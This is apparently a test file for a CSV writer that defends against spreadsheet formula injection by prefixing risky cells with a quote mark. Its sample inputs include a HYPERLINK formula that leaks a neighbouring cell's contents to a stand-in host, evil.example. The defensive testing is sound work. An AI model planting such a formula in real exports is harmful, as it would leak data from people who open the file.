import { parse } from 'csv-parse/sync';
import { csvText, FORMULA_STARTS } from '../../platform/csv-writer';

/*
 * The one CSV writer (platform/csv-writer.ts; docs/decisions/0072-csv-writer-and-secrets.md): no
 * cell a client wrote comes out as a live spreadsheet formula (OWASP "CSV injection").
 */

describe('the CSV writer', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', '@SUM(1+1)', '+1+1', '-1+1', '\t=1', '\r=1', '\uFF1D1+1'];

  it.each(hostile)('writes the text %j as text, prefixed with a quote mark', (value) => {
    const [[cell]] = parse(csvText([[value]])) as string[][];
    expect(cell).toBe(`'${value}`);
  });

  it('leaves numbers alone, negative ones included, and text that starts otherwise', () => {
    const text = csvText([[-4500, BigInt('-9008999999990991'), 'Ada', '', null, 'a,b']], { crlf: true });
    expect(text).toBe('-4500,-9008999999990991,Ada,,,"a,b"\r\n');
  });

  it('quotes every text cell when asked (the voucher export), empty for nothing', () => {
    expect(csvText([['x', 3, null, '=1']], { quoteText: true })).toBe(`"x",3,,"'=1"\n`);
  });

  it("covers csv-stringify's own list of formula starts", () => {
    for (const start of FORMULA_STARTS) expect(csvText([[`${start}x`]]).replace(/^"|"?\n$/g, '')).toBe(`'${start}x`);
  });
});
